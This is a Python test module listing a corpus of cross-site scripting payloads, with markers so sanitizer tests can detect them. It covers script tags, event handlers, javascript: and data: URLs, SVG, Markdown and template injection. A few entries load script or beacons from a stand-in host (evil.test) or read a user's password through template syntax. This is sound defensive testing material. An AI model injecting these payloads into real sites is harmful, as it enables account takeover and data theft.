"""The XSS corpus: what an attacker types into any field, and a marker to find each one by.

PAYLOADS are one line each, so a Markdown import keeps each in the row it was written in.
MARKDOWN_PAYLOADS span lines (reference definitions, HTML blocks) and go into prose fields.
Every payload is written after its marker (`marked`), a harmless word that survives any
sanitizing, so a test can tell that the payload reached the page it checks.
"""

from __future__ import annotations

from urllib.parse import quote

_BASE = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>/*</script><script>alert(1)//*/</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<a href="https://example.test" onclick="alert(1)">link</a>',
    '<p style="x" onpointerenter=alert(1)>p</p>',
    "<span class=x onanimationstart=alert(1)>s</span>",
    "<table background=javascript:alert(1)><tr><td onmouseover=alert(1)>t</td></tr></table>",
    # URLs in links and images
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">c</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.test/track.gif">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<isindex action=javascript:alert(1) type=image>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">m</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>m</maction></math>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    # Styles
    '<div style="background:url(javascript:alert(1))">s</div>',
    '<div style="width:expression(alert(1))">s</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    # Attribute breakouts (for text that lands inside an attribute or a tag)
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    "</a><a href=javascript:alert(1)>x</a>",
    '" hx-on:click="alert(1)',
    '<div hx-on:load="alert(1)">h</div>',
    '<div hx-get="/logout/" hx-trigger="load">h</div>',
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://example.test "title" onclick=alert(1))',
    '[click](https://example.test"onmouseover="alert(1))',
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "![img](https://evil.test/beacon.png)",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    '<https://example.test/" onclick="alert(1)>',
    "[a](javascript:alert(1)\\)",
    "[![img](x)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    # Template syntax (Django templates, Jinja, Angular and friends)
    "{{ 7|add:7 }}",
    "{% load static %}{% debug %}",
    "{{request.user.password}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    # Entities, encodings and parser confusion
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr&#0;ipt>alert(1)</scr&#0;ipt>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</description><script>alert(1)</script>",
    "</content><script>alert(1)</script>",
]

# Variants of some vectors: case mixing, percent and entity encoding of the scheme.
_VARIANTS = [
    "<ScRiPt>alert(2)</sCrIpT>",
    "<IMG SRC=X ONERROR=alert(2)>",
    "<SVG ONLOAD=alert(2)>",
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(2)">c</a>',
    '<a href="javascript%3Aalert(2)">c</a>',
    '<a href="\x01javascript:alert(2)">c</a>',
    '<a href="javas\ncript:alert(2)">c</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(2)">c</a>',
    "[c](java%0ascript:alert(2))",
    "[c](&#x6A;avascript:alert(2))",
    "[c](VbScRiPt:msgbox(2))",
    '<a href="' + quote("javascript:alert(2)") + '">c</a>',
]

PAYLOADS: list[str] = [p.replace("\n", " ") for p in _BASE + _VARIANTS]

# Markdown that needs more than one line: reference links, raw HTML blocks, nested lists.
MARKDOWN_PAYLOADS: list[str] = [
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    '[click][evil2]\n\n[evil2]: <javascript:alert(1)> "t"',
    "![pic][img]\n\n[img]: javascript:alert(1)",
    "[evil3]\n\n[evil3]: data:text/html,<script>alert(1)</script>",
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">\n[x](javascript:alert(1))\n</div>',
    "- [x] <img src=x onerror=alert(1)>\n- [ ] <input onfocus=alert(1) autofocus>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "```html\n<script>alert(1)</script>\n```",
    "> <svg onload=alert(1)>\n> [q](javascript:alert(1))",
]


def marker(number: int) -> str:
    return f"PX{number:03d}Q"


def marked(number: int, payload: str) -> str:
    return f"{marker(number)} {payload}"


def all_marked() -> list[str]:
    """Every single-line payload after its marker, in corpus order."""
    return [marked(n, p) for n, p in enumerate(PAYLOADS)]
